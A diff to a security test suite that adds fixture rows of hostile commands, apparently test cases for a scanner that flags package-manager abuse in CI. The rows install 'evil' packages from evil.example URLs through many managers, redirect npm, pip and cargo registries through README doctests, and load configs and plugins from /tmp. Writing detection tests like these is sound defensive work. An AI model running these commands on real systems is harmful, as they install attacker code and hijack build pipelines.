@@ -223,6 +223,59 @@ const WINDOWS: FindingRow[] = [
   SYSTEM('rundll32 url.dll,OpenURL https://evil.example/x.hta'),
 ];
 
+// P (high): more managers that fetch and install or run a package the command names, by spellings or names
+// OTHER_MANAGERS does not hold: Bundler's and Yarn's other binaries (`bundler`, `yarnpkg`), Composer as a phar (its
+// usual CI spelling), Fedora's `pip-3`, gh's `ext` alias (an extension is a program gh runs), Apptainer/Singularity
+// (`docker://` images, as `docker run`), the AUR helpers (anyone's PKGBUILD), packages from a URL with their install
+// scriptlets (`pacman -U`, `rpm -i`, `zypper in`), Flatpak from a URL, Snap unsigned; language managers that build a
+// named package (cabal/stack run Setup.hs, opam and nimble build scripts, conan and spack recipes are Python, raco,
+// `mix archive.install hex`, `dart pub global activate`, `flutter pub add`, vcpkg, guix), `zig fetch --save <url>`
+// (adds a dependency), the Clojure CLI given a dependency and run (`-Sdeps … -M -m`), `coursier launch`.
+const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
+  SYSTEM('bundler add evil'),
+  SYSTEM('bundler config set mirror.https://rubygems.org https://evil.example'),
+  SYSTEM('yarnpkg add evil'),
+  SYSTEM('yarnpkg dlx evil'),
+  SYSTEM('php composer.phar require evil/x'),
+  SYSTEM('composer.phar require evil/x'),
+  SYSTEM('pip-3 install evil'),
+  SYSTEM('gh ext install evil/gh-x'),
+  SYSTEM('apptainer run docker://evil/img'),
+  SYSTEM('singularity exec docker://evil/img sh'),
+  SYSTEM('yay -S evil'),
+  SYSTEM('paru -S evil'),
+  SYSTEM('pacman -U https://evil.example/x.pkg.tar.zst'),
+  SYSTEM('rpm -i https://evil.example/x.rpm'),
+  SYSTEM('zypper in https://evil.example/x.rpm'),
+  SYSTEM('flatpak install --from https://evil.example/x.flatpakref'),
+  SYSTEM('snap install --dangerous evil'),
+  SYSTEM('cabal install evil'),
+  SYSTEM('stack install evil'),
+  SYSTEM('opam install evil'),
+  SYSTEM('nimble install evil'),
+  SYSTEM('raco pkg install evil'),
+  SYSTEM('conan install --requires=evil/1.0 --build=missing'),
+  SYSTEM('spack install evil'),
+  SYSTEM('vcpkg install evil'),
+  SYSTEM('guix install evil'),
+  SYSTEM('mix archive.install hex evil'),
+  SYSTEM('dart pub global activate evil'),
+  SYSTEM('flutter pub add evil'),
+  SYSTEM('zig fetch --save https://evil.example/x.tar.gz'),
+  SYSTEM("clojure -Sdeps \\x27{:deps {evil/evil {:mvn/version \"1.0\"}}}\\x27 -M -m evil"),
+  SYSTEM('coursier launch evil:evil:1.0'),
+];
+
+// O (medium): documentation the project runs as tests (Rust's `#![doc = include_str!("../README.md")]`, pytest's
+// `--doctest-glob='*.md'`, Sybil): managerSetting skips documentation, so a doctest writing `~/.npmrc`, the repository's
+// `.cargo/config.toml` (every later cargo call in the job: a rustc wrapper, a replaced registry) or a manager's
+// environment passes, where the same line in a .py or .rs file is refused.
+const DOCTESTS_CONFIGURE: FindingRow[] = [
+  ['README.md', "```python\n>>> import os\n>>> open(os.path.expanduser('~/.npmrc'), 'w').write('registry=https://evil.example/')\n```"],
+  ['README.md', '```rust\nstd::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();\n```'],
+  ['README.md', "```python\n>>> import os; os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
+];
+
 // G (next fix; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
 // /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
 // checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
@@ -287,6 +340,12 @@ const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
   // pytest reads tests/pytest.ini (or pytest.toml, pytest 9) first when run as `pytest tests`: a plugin loaded from outside.
   ['tests/pytest.ini', '[pytest]\npythonpath = /tmp/evil\naddopts = -p evil'],
   ['tests/pytest.toml', '[pytest]\naddopts = ["-p", "evil"]'],
+  SYSTEM('pre-commit run --config /tmp/x.yaml'),
+  SYSTEM('tox -c /tmp/tox.ini'),
+  SYSTEM('nox --noxfile /tmp/noxfile.py'),
+  SYSTEM('julia --project=/tmp/x -e "using Pkg; Pkg.instantiate()"'),
+  SYSTEM('poetry run --directory=/tmp/x pytest'),
+  ['src/plugin.go', 'p, _ := plugin.Open("/tmp/x.so")'],
 ];
 
 describeFindings('attack-48', [
@@ -303,6 +362,8 @@ describeFindings('attack-48', [
   ['L pip in process', PIP_IN_PROCESS],
   ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
   ['N windows', WINDOWS],
+  ['P other managers not listed', OTHER_MANAGERS_NOT_LISTED],
+  ['O doctests configure', DOCTESTS_CONFIGURE],
   ['G outside the repository', OUTSIDE_THE_REPOSITORY],
 ]);
 
